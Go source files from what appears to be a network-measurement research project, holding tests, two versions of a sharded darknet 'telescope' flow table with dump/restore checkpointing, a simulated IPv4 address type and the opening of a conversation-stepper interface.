	fa, fb := a.Flows(), b.Flows()
	if len(fa) != len(fb) {
		t.Fatalf("flow counts differ: %d vs %d", len(fa), len(fb))
	}
	for i := range fa {
		if *fa[i] != *fb[i] {
			t.Fatalf("flow %d differs after restore:\n  a: %+v\n  b: %+v", i, *fa[i], *fb[i])
		}
	}
}

// TestRestoreContinuesIngest asserts a dump/restore cycle in the middle of
// ingest is invisible: continuing on the restored table yields the same
// final state as a table that was never serialized — including merges that
// straddle the checkpoint and fresh ordinal allocation afterwards.
func TestRestoreContinuesIngest(t *testing.T) {
	golden := newTestTelescope()
	for i := 0; i < 200; i++ {
		f := testFlow(i)
		golden.Record(&f)
	}

	first := newTestTelescope()
	for i := 0; i < 90; i++ {
		f := testFlow(i)
		first.Record(&f)
	}
	resumed := newTestTelescope()
	resumed.Restore(first.Dump())
	for i := 90; i < 200; i++ {
		f := testFlow(i)
		resumed.Record(&f)
	}
	if got, want := dumpJSON(t, resumed), dumpJSON(t, golden); got != want {
		t.Fatal("ingest across a dump/restore diverges from uninterrupted ingest")
	}
}

// TestDumpBatchInterleavingIndependent asserts the property the parallel
// darknet generator relies on: producers carving disjoint RecordBatch
// ordinal ranges yield byte-identical dumps no matter which order their
// batches land in.
func TestDumpBatchInterleavingIndependent(t *testing.T) {
	makeBatch := func(unit, n int) (uint64, []FlowTuple) {
		fts := make([]FlowTuple, n)
		for i := range fts {
			fts[i] = testFlow(unit*1000 + i)
		}
		return uint64(unit+1) << 32, fts
	}
	ingest := func(order []int) string {
		tel := newTestTelescope()
		for _, unit := range order {
			base, fts := makeBatch(unit, 64)
			tel.RecordBatch(base, fts)
		}
		return dumpJSON(t, tel)
	}
	want := ingest([]int{0, 1, 2, 3})
	for _, order := range [][]int{{3, 2, 1, 0}, {1, 3, 0, 2}, {2, 0, 3, 1}} {
		if got := ingest(order); got != want {
			t.Fatalf("batch order %v produced a different dump", order)
		}
	}
}

// TestRestoredBatchOrdinalsMerge asserts restore keeps batch-ordinal
// semantics: a batch recorded after restore under a smaller ordinal base
// still wins merges against restored flows, exactly as it would have live.
func TestRestoredBatchOrdinalsMerge(t *testing.T) {
	run := func(checkpoint bool) string {
		tel := newTestTelescope()
		_, high := makeUnitBatch(2, 8)
		tel.RecordBatch(uint64(3)<<32, high)
		if checkpoint {
			fresh := newTestTelescope()
			fresh.Restore(tel.Dump())
			tel = fresh
		}
		_, low := makeUnitBatch(2, 8) // same keys, lower ordinals
		tel.RecordBatch(uint64(1)<<32, low)
		return dumpJSON(t, tel)
	}
	if run(false) != run(true) {
		t.Fatal("merge against restored flows differs from live merge")
	}
}

func makeUnitBatch(unit, n int) (uint64, []FlowTuple) {
	fts := make([]FlowTuple, n)
	for i := range fts {
		fts[i] = testFlow(unit*1000 + i)
	}
	return uint64(unit+1) << 32, fts
}
