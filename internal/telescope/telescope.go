package telescope

import (
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"openhire/internal/geo"
	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// Telescope observes a routed-but-dark prefix, aggregating unsolicited
// traffic into FlowTuple records. It implements netsim.Observer, so wiring
// it into the fabric with Network.AddObserver captures every probe the
// simulated adversaries send at its prefix — the same passive capture model
// as the UCSD /8 darknet.
//
// The flow table is hash-sharded: each flow key maps to one of numShards
// open-addressing tables with its own lock, so concurrent attack workers and
// the parallel darknet generator never serialize on a single mutex. Every
// flow carries an ordinal; Flows and Drain merge the shards back into
// ascending-ordinal order, which for a single sequential writer is exactly
// insertion order (the behaviour the pre-sharding telescope guaranteed).
type Telescope struct {
	prefix netsim.Prefix
	geodb  *geo.DB

	// seq allocates ordinals for Observe/Record. It starts at recordSeqBase
	// so batch ingest (RecordBatch, whose callers assign their own ordinals
	// below the base) sorts ahead of fabric-observed traffic.
	seq    atomic.Uint64
	shards [numShards]flowShard
}

// numShards is the flow-table shard count. 64 keeps the per-shard lock
// essentially uncontended at the worker counts the replay uses while the
// array of shard headers still fits in a few cache lines.
const numShards = 64

// recordSeqBase is the first ordinal handed to Observe/Record traffic.
// RecordBatch callers own the range below it.
const recordSeqBase = uint64(1) << 62

// flowShard is one lock-striped slice of the flow table: an open-addressing
// index over an insertion-ordered entry slab. Padded so adjacent shard
// headers do not share a cache line under concurrent ingest.
type flowShard struct {
	mu      sync.Mutex
	entries []flowEntry
	slots   []int32 // entry index + 1; 0 = empty
	mask    uint64
	_       [64]byte
}

// flowEntry is one aggregated flow plus its packed key and merge ordinal.
type flowEntry struct {
	k0, k1 uint64
	seq    uint64
	ft     *FlowTuple
}

// flowKey aggregates packets of one flow within the capture window.
type flowKey struct {
	src, dst     netsim.IPv4
	sport, dport uint16
	proto        uint8
}

// pack flattens the key into two words for the open-addressing tables.
func (k flowKey) pack() (uint64, uint64) {
	k0 := uint64(k.src)<<32 | uint64(k.dst)
	k1 := uint64(k.sport)<<24 | uint64(k.dport)<<8 | uint64(k.proto)
	return k0, k1
}

// mix64 is the SplitMix64 finalizer, used to hash packed flow keys.
func mix64(z uint64) uint64 {
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// New builds a telescope over prefix using geodb for source annotation.
func New(prefix netsim.Prefix, geodb *geo.DB) *Telescope {
	t := &Telescope{prefix: prefix, geodb: geodb}
	t.seq.Store(recordSeqBase)
	return t
}

// Prefix returns the observed range.
func (t *Telescope) Prefix() netsim.Prefix { return t.prefix }

// insert adds or merges one flow under the shard lock. The caller computes
// the packed key and hash; ft ownership passes to the telescope. When two
// ordinals collide on one key the smaller ordinal's record wins and absorbs
// the other's packet count, so the merged table is a pure function of the
// flow set — independent of arrival interleaving.
func (s *flowShard) insert(k0, k1, h, seq uint64, ft *FlowTuple) {
	if s.slots == nil {
		s.grow(512)
	}
	for i := h & s.mask; ; i = (i + 1) & s.mask {
		ref := s.slots[i]
		if ref == 0 {
			if uint64(len(s.entries))*4 >= uint64(len(s.slots))*3 {
				s.grow(uint64(len(s.slots)) * 2)
				s.insert(k0, k1, h, seq, ft)
				return
			}
			s.entries = append(s.entries, flowEntry{k0: k0, k1: k1, seq: seq, ft: ft})
			s.slots[i] = int32(len(s.entries))
			return
		}
		e := &s.entries[ref-1]
		if e.k0 == k0 && e.k1 == k1 {
			if seq < e.seq {
				ft.PacketCnt += e.ft.PacketCnt
				e.ft = ft
				e.seq = seq
			} else {
				e.ft.PacketCnt += ft.PacketCnt
			}
			return
		}
	}
}

// find returns the record for a packed key, or nil. Caller holds the lock.
func (s *flowShard) find(k0, k1, h uint64) *FlowTuple {
	if s.slots == nil {
		return nil
	}
	for i := h & s.mask; ; i = (i + 1) & s.mask {
		ref := s.slots[i]
		if ref == 0 {
			return nil
		}
		if e := &s.entries[ref-1]; e.k0 == k0 && e.k1 == k1 {
			return e.ft
		}
	}
}

// grow rebuilds the slot index at the new power-of-two size and reserves
// entry capacity for the 3/4 load the index admits, so insert's append never
// reallocates (entry copies carry pointer write barriers, which showed up in
// the batch-ingest profile).
func (s *flowShard) grow(size uint64) {
	s.slots = make([]int32, size)
	s.mask = size - 1
	if want := int(size - size/4); cap(s.entries) < want {
		ne := make([]flowEntry, len(s.entries), want)
		copy(ne, s.entries)
		s.entries = ne
	}
	for idx := range s.entries {
		e := &s.entries[idx]
		h := mix64(e.k0 ^ mix64(e.k1))
		for i := h & s.mask; ; i = (i + 1) & s.mask {
			if s.slots[i] == 0 {
				s.slots[i] = int32(idx + 1)
				break
			}
		}
	}
}

// Reserve pre-sizes the flow table for an expected number of distinct flows,
// spreading the hint evenly across shards and sizing each slot index so the
// expected entries stay under the 3/4 load factor insert enforces. Producers
// that know their volume up front (the darknet generator plans flow counts
// per day before emitting anything) skip the doubling rehashes a cold table
// pays while filling; growth past the hint still works exactly as before —
// grow rehashes the shard in place at double the size. Reserve never
// shrinks, and calling it on a populated telescope only ever widens shards.
func (t *Telescope) Reserve(flows int) {
	if flows <= 0 {
		return
	}
	per := uint64(flows)/numShards + 1
	size := uint64(512)
	for size*3 < per*4 {
		size *= 2
	}
	for i := range t.shards {
		s := &t.shards[i]
		s.mu.Lock()
		if uint64(len(s.slots)) < size {
			s.grow(size)
		}
		s.mu.Unlock()
	}
}

// Observe implements netsim.Observer.
func (t *Telescope) Observe(ev netsim.ProbeEvent) {
	if !t.prefix.Contains(ev.Dst.IP) {
		return
	}
	var proto uint8 = ProtoTCP
	var flags uint8
	ipLen := uint16(40)
	var synLen, synWin uint16
	switch ev.Transport {
	case netsim.UDP:
		proto = ProtoUDP
		ipLen = uint16(28 + ev.Size)
	default:
		if ev.Kind == netsim.ProbeSYN {
			flags = FlagSYN
			synLen = 44
			synWin = 65535
		}
	}
	k0, k1 := flowKey{src: ev.Src.IP, dst: ev.Dst.IP, sport: ev.Src.Port,
		dport: ev.Dst.Port, proto: proto}.pack()
	h := mix64(k0 ^ mix64(k1))
	s := &t.shards[h>>(64-6)]

	// Fast path: a repeat packet of a known flow only bumps its counter —
	// no allocation, no geo lookup, one shard lock.
	s.mu.Lock()
	if ft := s.find(k0, k1, h); ft != nil {
		ft.PacketCnt++
		s.mu.Unlock()
		return
	}
	s.mu.Unlock()

	ft := &FlowTuple{
		Time: ev.Time, SrcIP: ev.Src.IP, DstIP: ev.Dst.IP,
		SrcPort: ev.Src.Port, DstPort: ev.Dst.Port,
		Protocol: proto, TTL: ev.TTL, TCPFlags: flags,
		IPLen: ipLen, SynLen: synLen, SynWinLen: synWin, PacketCnt: 1,
		IsSpoofed: ev.Spoofed, IsMasscan: ev.Masscan,
	}
	if t.geodb != nil {
		ft.CountryCC = string(t.geodb.Country(ev.Src.IP))
		ft.ASN = t.geodb.ASN(ev.Src.IP)
	}
	// A racing Observe of the same new flow may have inserted between the
	// probe and here; insert merges the counters either way.
	seq := t.seq.Add(1)
	s.mu.Lock()
	s.insert(k0, k1, h, seq, ft)
	s.mu.Unlock()
}

// ingest routes one owned record to its shard. Duplicate keys merge by
// adding ft's packet count to the already-held record.
func (t *Telescope) ingest(ft *FlowTuple, seq uint64) {
	k0, k1 := flowKey{src: ft.SrcIP, dst: ft.DstIP, sport: ft.SrcPort,
		dport: ft.DstPort, proto: ft.Protocol}.pack()
	h := mix64(k0 ^ mix64(k1))
	s := &t.shards[h>>(64-6)] // top bits pick the shard, low bits the slot
	s.mu.Lock()
	s.insert(k0, k1, h, seq, ft)
	s.mu.Unlock()
}

// Record ingests a copy of a pre-built FlowTuple. The statistical traffic
// generator's scalar path and tests use this; bulk producers should prefer
// RecordBatch, which skips the per-record copy and lock acquisition.
func (t *Telescope) Record(ft *FlowTuple) {
	cp := *ft
	t.ingest(&cp, t.seq.Add(1))
}

// RecordBatch ingests a batch of pre-built flows, taking ownership of the
// backing slab: records are indexed in place, never copied, and the caller
// must not touch them again. Record i receives ordinal base+i, and Flows and
// Drain return ascending-ordinal order, so concurrent producers that carve
// disjoint ordinal ranges below 1<<62 (the parallel darknet generator gives
// each (protocol, day) unit its own range) get dumps that are byte-identical
// no matter how their batches interleave. When one key appears under two
// ordinals, the smaller ordinal's record wins and absorbs the other's packet
// count — the same outcome sequential ingest in ordinal order would produce.
func (t *Telescope) RecordBatch(base uint64, fts []FlowTuple) {
	if len(fts) == 0 {
		return
	}
	// Counting-sort the batch by shard so each shard lock is acquired once
	// per batch instead of once per record. Placement scans records in batch
	// order, so within a shard ordinals stay ascending. Batches up to 256
	// records (the darknet generator's flush size) sort in stack scratch.
	var hsArr [256]uint64
	var orderArr [256]int32
	var hs []uint64
	var order []int32
	if len(fts) <= len(hsArr) {
		hs, order = hsArr[:len(fts)], orderArr[:len(fts)]
	} else {
		hs = make([]uint64, len(fts))
		order = make([]int32, len(fts))
	}
	var count [numShards]int32
	for i := range fts {
		k0, k1 := flowKey{src: fts[i].SrcIP, dst: fts[i].DstIP, sport: fts[i].SrcPort,
			dport: fts[i].DstPort, proto: fts[i].Protocol}.pack()
		hs[i] = mix64(k0 ^ mix64(k1))
		count[hs[i]>>(64-6)]++
	}
	var offset [numShards + 1]int32
	for s := 0; s < numShards; s++ {
		offset[s+1] = offset[s] + count[s]
	}
	var fill [numShards]int32
	for i := range fts {
		s := hs[i] >> (64 - 6)
		order[offset[s]+fill[s]] = int32(i)
		fill[s]++
	}
	for s := 0; s < numShards; s++ {
		if count[s] == 0 {
			continue
		}
		shard := &t.shards[s]
		shard.mu.Lock()
		for _, i := range order[offset[s]:offset[s+1]] {
			ft := &fts[i]
			k0, k1 := flowKey{src: ft.SrcIP, dst: ft.DstIP, sport: ft.SrcPort,
				dport: ft.DstPort, proto: ft.Protocol}.pack()
			shard.insert(k0, k1, hs[i], base+uint64(i), ft)
		}
		shard.mu.Unlock()
	}
}

// snapshot gathers all entries across shards in ascending ordinal order.
func (t *Telescope) snapshot(clear bool) []*FlowTuple {
	type seqFlow struct {
		seq uint64
		ft  *FlowTuple
	}
	var all []seqFlow
	for i := range t.shards {
		s := &t.shards[i]
		s.mu.Lock()
		for j := range s.entries {
			all = append(all, seqFlow{seq: s.entries[j].seq, ft: s.entries[j].ft})
		}
		if clear {
			s.entries = nil
			s.slots = nil
		}
		s.mu.Unlock()
	}
	sort.Slice(all, func(i, j int) bool { return all[i].seq < all[j].seq })
	out := make([]*FlowTuple, len(all))
	for i := range all {
		out[i] = all[i].ft
	}
	return out
}

// Flows returns an isolated snapshot of the captured records in ingest
// order: every record is a deep copy, so callers may mutate the result (the
// report pipelines sort and rewrite rows) without corrupting the capture.
func (t *Telescope) Flows() []*FlowTuple {
	out := t.snapshot(false)
	for i, ft := range out {
		cp := *ft
		out[i] = &cp
	}
	return out
}

// Drain returns the captured records in ingest order and clears the buffer —
// the per-minute file rotation the CAIDA pipeline performs (1,440 files per
// day). Unlike Flows it hands back the live records without copying: the
// telescope forgets them, ownership passes to the caller, and the next
// capture window starts empty. Use it for rotation (cmd/openhire-telescope's
// -rotate path); use Flows when the capture must keep accumulating.
func (t *Telescope) Drain() []*FlowTuple {
	return t.snapshot(true)
}

// TableState is the telescope's resumable state: every aggregated flow with
// its merge ordinal, plus the Observe/Record ordinal allocator. Flow copies
// are deep, so a dumped state is immune to later mutation of the live table.
type TableState struct {
	// Seq is the ordinal allocator position (starts at 1<<62; RecordBatch
	// ordinals below the base never advance it).
	Seq uint64 `json:"seq"`
	// Flows holds the aggregated records in ascending ordinal order.
	Flows []SavedFlow `json:"flows"`
}

// SavedFlow pairs one aggregated flow with its merge ordinal.
type SavedFlow struct {
	Seq  uint64    `json:"seq"`
	Flow FlowTuple `json:"flow"`
}

// Dump captures the full table state for checkpointing. Call it only once
// writers have quiesced.
func (t *Telescope) Dump() TableState {
	type seqFlow struct {
		seq uint64
		ft  *FlowTuple
	}
	var all []seqFlow
	for i := range t.shards {
		s := &t.shards[i]
		s.mu.Lock()
		for j := range s.entries {
			all = append(all, seqFlow{seq: s.entries[j].seq, ft: s.entries[j].ft})
		}
		s.mu.Unlock()
	}
	sort.Slice(all, func(i, j int) bool { return all[i].seq < all[j].seq })
	st := TableState{Seq: t.seq.Load(), Flows: make([]SavedFlow, len(all))}
	for i := range all {
		st.Flows[i] = SavedFlow{Seq: all[i].seq, Flow: *all[i].ft}
	}
	return st
}

// Restore loads a dumped state into an empty telescope: each flow re-enters
// under its original ordinal and the ordinal allocator resumes where it
// stopped, so subsequent ingest — and every later Flows/Drain merge — is
// indistinguishable from a table that was never serialized.
func (t *Telescope) Restore(st TableState) {
	t.seq.Store(st.Seq)
	t.Reserve(len(st.Flows))
	for i := range st.Flows {
		cp := st.Flows[i].Flow
		t.ingest(&cp, st.Flows[i].Seq)
	}
}

// Len returns the number of aggregated flows currently held.
func (t *Telescope) Len() int {
	n := 0
	for i := range t.shards {
		s := &t.shards[i]
		s.mu.Lock()
		n += len(s.entries)
		s.mu.Unlock()
	}
	return n
}

// Stats is a cheap counter snapshot of the live flow table, read shard by
// shard under the existing stripe locks — the observability layer's view of
// the capture without materializing (or copying) the flows themselves.
type Stats struct {
	// Flows is the number of aggregated FlowTuple records held.
	Flows int
	// Packets is the packet total across those flows.
	Packets uint64
}

// Stats sums the live shards. Like Len it takes each shard lock once, so it
// is safe to call while ingest is running; call it between phases (it is a
// consistent total only once writers have quiesced).
func (t *Telescope) Stats() Stats {
	var st Stats
	for i := range t.shards {
		s := &t.shards[i]
		s.mu.Lock()
		st.Flows += len(s.entries)
		for j := range s.entries {
			st.Packets += uint64(s.entries[j].ft.PacketCnt)
		}
		s.mu.Unlock()
	}
	return st
}

// Counters flattens the snapshot for the metrics registry and run manifest.
func (st Stats) Counters() map[string]uint64 {
	return map[string]uint64{
		"flows":   uint64(st.Flows),
		"packets": st.Packets,
	}
}

// ProtocolOfPort maps a destination port to the study's protocol buckets.
func ProtocolOfPort(port uint16) (iot.Protocol, bool) {
	switch port {
	case 23, 2323:
		return iot.ProtoTelnet, true
	case 1883:
		return iot.ProtoMQTT, true
	case 5683:
		return iot.ProtoCoAP, true
	case 5672:
		return iot.ProtoAMQP, true
	case 5222, 5269:
		return iot.ProtoXMPP, true
	case 1900:
		return iot.ProtoUPnP, true
	default:
		return "", false
	}
}

// ProtocolStats is one Table 8 row: per-protocol telescope traffic.
type ProtocolStats struct {
	Protocol  iot.Protocol
	Packets   uint64
	Flows     int
	UniqueIPs int
}

// AggregateByProtocol buckets flows into the study's six protocols,
// sorted by descending packet count (Table 8 ordering).
func AggregateByProtocol(flows []*FlowTuple) []ProtocolStats {
	type agg struct {
		packets uint64
		flows   int
		ips     map[netsim.IPv4]struct{}
	}
	byProto := make(map[iot.Protocol]*agg)
	for _, ft := range flows {
		proto, ok := ProtocolOfPort(ft.DstPort)
		if !ok {
			continue
		}
		a := byProto[proto]
		if a == nil {
			a = &agg{ips: make(map[netsim.IPv4]struct{})}
			byProto[proto] = a
		}
		a.packets += uint64(ft.PacketCnt)
		a.flows++
		a.ips[ft.SrcIP] = struct{}{}
	}
	out := make([]ProtocolStats, 0, len(byProto))
	for p, a := range byProto {
		out = append(out, ProtocolStats{Protocol: p, Packets: a.packets,
			Flows: a.flows, UniqueIPs: len(a.ips)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Packets != out[j].Packets {
			return out[i].Packets > out[j].Packets
		}
		return out[i].Protocol < out[j].Protocol
	})
	return out
}

// UniqueSources returns the distinct source addresses across flows.
func UniqueSources(flows []*FlowTuple) []netsim.IPv4 {
	seen := make(map[netsim.IPv4]struct{})
	var out []netsim.IPv4
	for _, ft := range flows {
		if _, ok := seen[ft.SrcIP]; !ok {
			seen[ft.SrcIP] = struct{}{}
			out = append(out, ft.SrcIP)
		}
	}
	return out
}

// HourlyBuckets splits flows into hour buckets from start, for the daily
// series behind Figure 8's telescope counterpart.
func HourlyBuckets(flows []*FlowTuple, start time.Time, hours int) []uint64 {
	out := make([]uint64, hours)
	for _, ft := range flows {
		// Duration division truncates toward zero, so a flow inside
		// (start-1h, start) would otherwise alias into bucket 0.
		if ft.Time.Before(start) {
			continue
		}
		h := int(ft.Time.Sub(start) / time.Hour)
		if h >= 0 && h < hours {
			out[h] += uint64(ft.PacketCnt)
		}
	}
	return out
}

// PartitionByHour splits flows into per-hour groups from start: slot i holds
// the flows with start+i h <= Time < start+(i+1) h, each group preserving the
// input's relative order. Flows outside [start, start+hours h) are dropped —
// same windowing as HourlyBuckets, but the flows themselves survive for
// downstream per-hour aggregation (the serve daemon's rotation cadence needs
// the tuples, not just the packet totals).
func PartitionByHour(flows []*FlowTuple, start time.Time, hours int) [][]*FlowTuple {
	out := make([][]*FlowTuple, hours)
	for _, ft := range flows {
		h := int(ft.Time.Sub(start) / time.Hour)
		if h >= 0 && h < hours && !ft.Time.Before(start) {
			out[h] = append(out[h], ft)
		}
	}
	return out
}
