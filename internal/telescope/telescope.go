package telescope

import (
	"sort"
	"sync"
	"time"

	"openhire/internal/geo"
	"openhire/internal/iot"
	"openhire/internal/netsim"
)

// Telescope observes a routed-but-dark prefix, aggregating unsolicited
// traffic into FlowTuple records. It implements netsim.Observer, so wiring
// it into the fabric with Network.AddObserver captures every probe the
// simulated adversaries send at its prefix — the same passive capture model
// as the UCSD /8 darknet.
type Telescope struct {
	prefix netsim.Prefix
	geodb  *geo.DB

	mu    sync.Mutex
	flows map[flowKey]*FlowTuple
	order []flowKey // insertion order for deterministic dumps
}

// flowKey aggregates packets of one flow within the capture window.
type flowKey struct {
	src, dst     netsim.IPv4
	sport, dport uint16
	proto        uint8
}

// New builds a telescope over prefix using geodb for source annotation.
func New(prefix netsim.Prefix, geodb *geo.DB) *Telescope {
	return &Telescope{
		prefix: prefix,
		geodb:  geodb,
		flows:  make(map[flowKey]*FlowTuple),
	}
}

// Prefix returns the observed range.
func (t *Telescope) Prefix() netsim.Prefix { return t.prefix }

// Observe implements netsim.Observer.
func (t *Telescope) Observe(ev netsim.ProbeEvent) {
	if !t.prefix.Contains(ev.Dst.IP) {
		return
	}
	var proto uint8 = ProtoTCP
	var flags uint8
	ipLen := uint16(40)
	var synLen, synWin uint16
	switch ev.Transport {
	case netsim.UDP:
		proto = ProtoUDP
		ipLen = uint16(28 + ev.Size)
	default:
		if ev.Kind == netsim.ProbeSYN {
			flags = FlagSYN
			synLen = 44
			synWin = 65535
		}
	}
	key := flowKey{src: ev.Src.IP, dst: ev.Dst.IP, sport: ev.Src.Port,
		dport: ev.Dst.Port, proto: proto}

	t.mu.Lock()
	defer t.mu.Unlock()
	if ft, ok := t.flows[key]; ok {
		ft.PacketCnt++
		return
	}
	ft := &FlowTuple{
		Time: ev.Time, SrcIP: ev.Src.IP, DstIP: ev.Dst.IP,
		SrcPort: ev.Src.Port, DstPort: ev.Dst.Port,
		Protocol: proto, TTL: ev.TTL, TCPFlags: flags,
		IPLen: ipLen, SynLen: synLen, SynWinLen: synWin, PacketCnt: 1,
		IsSpoofed: ev.Spoofed, IsMasscan: ev.Masscan,
	}
	if t.geodb != nil {
		ft.CountryCC = string(t.geodb.Country(ev.Src.IP))
		ft.ASN = t.geodb.ASN(ev.Src.IP)
	}
	t.flows[key] = ft
	t.order = append(t.order, key)
}

// Record ingests a pre-built FlowTuple directly. The statistical traffic
// generator uses this path for volumes that would be wasteful to route
// through the packet fabric.
func (t *Telescope) Record(ft *FlowTuple) {
	key := flowKey{src: ft.SrcIP, dst: ft.DstIP, sport: ft.SrcPort,
		dport: ft.DstPort, proto: ft.Protocol}
	t.mu.Lock()
	defer t.mu.Unlock()
	if prev, ok := t.flows[key]; ok {
		prev.PacketCnt += ft.PacketCnt
		return
	}
	cp := *ft
	t.flows[key] = &cp
	t.order = append(t.order, key)
}

// Flows returns the captured records in insertion order.
func (t *Telescope) Flows() []*FlowTuple {
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]*FlowTuple, 0, len(t.order))
	for _, k := range t.order {
		cp := *t.flows[k]
		out = append(out, &cp)
	}
	return out
}

// Drain returns captured records and clears the buffer — the per-minute
// file rotation the CAIDA pipeline performs (1,440 files per day).
func (t *Telescope) Drain() []*FlowTuple {
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]*FlowTuple, 0, len(t.order))
	for _, k := range t.order {
		out = append(out, t.flows[k])
	}
	t.flows = make(map[flowKey]*FlowTuple)
	t.order = nil
	return out
}

// Len returns the number of aggregated flows currently held.
func (t *Telescope) Len() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return len(t.flows)
}

// ProtocolOfPort maps a destination port to the study's protocol buckets.
func ProtocolOfPort(port uint16) (iot.Protocol, bool) {
	switch port {
	case 23, 2323:
		return iot.ProtoTelnet, true
	case 1883:
		return iot.ProtoMQTT, true
	case 5683:
		return iot.ProtoCoAP, true
	case 5672:
		return iot.ProtoAMQP, true
	case 5222, 5269:
		return iot.ProtoXMPP, true
	case 1900:
		return iot.ProtoUPnP, true
	default:
		return "", false
	}
}

// ProtocolStats is one Table 8 row: per-protocol telescope traffic.
type ProtocolStats struct {
	Protocol  iot.Protocol
	Packets   uint64
	Flows     int
	UniqueIPs int
}

// AggregateByProtocol buckets flows into the study's six protocols,
// sorted by descending packet count (Table 8 ordering).
func AggregateByProtocol(flows []*FlowTuple) []ProtocolStats {
	type agg struct {
		packets uint64
		flows   int
		ips     map[netsim.IPv4]struct{}
	}
	byProto := make(map[iot.Protocol]*agg)
	for _, ft := range flows {
		proto, ok := ProtocolOfPort(ft.DstPort)
		if !ok {
			continue
		}
		a := byProto[proto]
		if a == nil {
			a = &agg{ips: make(map[netsim.IPv4]struct{})}
			byProto[proto] = a
		}
		a.packets += uint64(ft.PacketCnt)
		a.flows++
		a.ips[ft.SrcIP] = struct{}{}
	}
	out := make([]ProtocolStats, 0, len(byProto))
	for p, a := range byProto {
		out = append(out, ProtocolStats{Protocol: p, Packets: a.packets,
			Flows: a.flows, UniqueIPs: len(a.ips)})
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Packets != out[j].Packets {
			return out[i].Packets > out[j].Packets
		}
		return out[i].Protocol < out[j].Protocol
	})
	return out
}

// UniqueSources returns the distinct source addresses across flows.
func UniqueSources(flows []*FlowTuple) []netsim.IPv4 {
	seen := make(map[netsim.IPv4]struct{})
	var out []netsim.IPv4
	for _, ft := range flows {
		if _, ok := seen[ft.SrcIP]; !ok {
			seen[ft.SrcIP] = struct{}{}
			out = append(out, ft.SrcIP)
		}
	}
	return out
}

// HourlyBuckets splits flows into hour buckets from start, for the daily
// series behind Figure 8's telescope counterpart.
func HourlyBuckets(flows []*FlowTuple, start time.Time, hours int) []uint64 {
	out := make([]uint64, hours)
	for _, ft := range flows {
		h := int(ft.Time.Sub(start) / time.Hour)
		if h >= 0 && h < hours {
			out[h] += uint64(ft.PacketCnt)
		}
	}
	return out
}
