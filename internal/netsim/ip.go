// Package netsim implements the simulated IPv4 Internet that every
// experiment in this repository runs against.
//
// The live-Internet substrate of the paper (an IPv4-wide ZMap scan, a
// university honeypot deployment and the CAIDA /8 telescope) is replaced by a
// deterministic virtual network: hosts are derived lazily from (seed, IP), so
// a population of millions costs no memory until probed, and connections are
// in-memory net.Conn pairs so real protocol code runs unmodified over them.
package netsim

import (
	"fmt"
	"strconv"
	"strings"
)

// IPv4 is an IPv4 address in host byte order. The numeric representation
// makes address arithmetic (scan permutations, prefix membership) trivial.
type IPv4 uint32

// ParseIPv4 parses dotted-quad notation ("192.0.2.1").
func ParseIPv4(s string) (IPv4, error) {
	var parts [4]uint64
	rest := s
	for i := 0; i < 4; i++ {
		var tok string
		if i < 3 {
			dot := strings.IndexByte(rest, '.')
			if dot < 0 {
				return 0, fmt.Errorf("netsim: invalid IPv4 %q", s)
			}
			tok, rest = rest[:dot], rest[dot+1:]
		} else {
			tok = rest
		}
		v, err := strconv.ParseUint(tok, 10, 8)
		if err != nil {
			return 0, fmt.Errorf("netsim: invalid IPv4 %q", s)
		}
		parts[i] = v
	}
	return IPv4(parts[0]<<24 | parts[1]<<16 | parts[2]<<8 | parts[3]), nil
}

// MustParseIPv4 is ParseIPv4 that panics on error, for constants in tests
// and tables.
func MustParseIPv4(s string) IPv4 {
	ip, err := ParseIPv4(s)
	if err != nil {
		panic(err)
	}
	return ip
}

// String renders the address in dotted-quad notation.
func (ip IPv4) String() string {
	var b [15]byte
	buf := strconv.AppendUint(b[:0], uint64(ip>>24), 10)
	buf = append(buf, '.')
	buf = strconv.AppendUint(buf, uint64(ip>>16&0xff), 10)
	buf = append(buf, '.')
	buf = strconv.AppendUint(buf, uint64(ip>>8&0xff), 10)
	buf = append(buf, '.')
	buf = strconv.AppendUint(buf, uint64(ip&0xff), 10)
	return string(buf)
}

// Octets returns the four address bytes, most significant first.
func (ip IPv4) Octets() [4]byte {
	return [4]byte{byte(ip >> 24), byte(ip >> 16), byte(ip >> 8), byte(ip)}
}

// Endpoint is a transport endpoint on the simulated network.
type Endpoint struct {
	IP   IPv4
	Port uint16
}

// String renders "ip:port".
func (e Endpoint) String() string {
	return e.IP.String() + ":" + strconv.Itoa(int(e.Port))
}

// Transport distinguishes the two transports the simulation carries.
type Transport uint8

// Transports understood by the network.
const (
	TCP Transport = iota
	UDP
)

// String names the transport.
func (t Transport) String() string {
	switch t {
	case TCP:
		return "tcp"
	case UDP:
		return "udp"
	default:
		return "transport(" + strconv.Itoa(int(t)) + ")"
	}
}
