package netsim

// stepper.go defines the resumable step-function form of a conversation
// server. A Stepper is the non-blocking dual of StreamHandler.Serve: instead
// of looping over blocking reads, it is fed discrete events — the dial, each
// batch of client bytes, the client's half-close, a torn pipe — and consumes
// input incrementally from a ServerConv, carrying partial-parse state (half a
// Telnet line, a truncated MQTT fixed header) across calls in its own fields.
//
// Handlers that implement StepProvider run natively on the engine: no
// coroutine worker, no parked goroutine, just a method call per client
// action. ServeStepper adapts a Stepper back to a blocking loop so the same
// state machine also serves the classic Serve path (protocol-level tests
// drive handlers over plain pipe connections).

import (
	"context"
	"errors"
	"io"
	"time"
)

// ConvEvent is one input event delivered to a Stepper.
type ConvEvent uint8

// Conversation events, in lifecycle order.
const (
	// EvOpen fires once, immediately after the dial completes. Banners and
	// negotiation bytes are written here.
	EvOpen ConvEvent = iota
	// EvData fires when client bytes are available. The stepper consumes as
	// much of ServerConv.Input as it can parse and leaves any partial tail.
	EvData
	// EvEOF fires when the client has closed its write side and every
	// delivered byte has been offered; no more input will ever arrive.
	// Input may still hold an unparseable partial tail.
	EvEOF
	// EvBroken fires when the transport was torn down (mid-stream reset);
	// pending input was discarded.
	EvBroken
)

// StepVerdict is a Stepper's report after handling one event.
type StepVerdict uint8

// Step verdicts.
const (
	// StepMore: the conversation continues; deliver further events.
	StepMore StepVerdict = iota
	// StepDone: the session is over (handler returned, in blocking terms).
	// The framework closes the server side of the conversation.
	StepDone
)

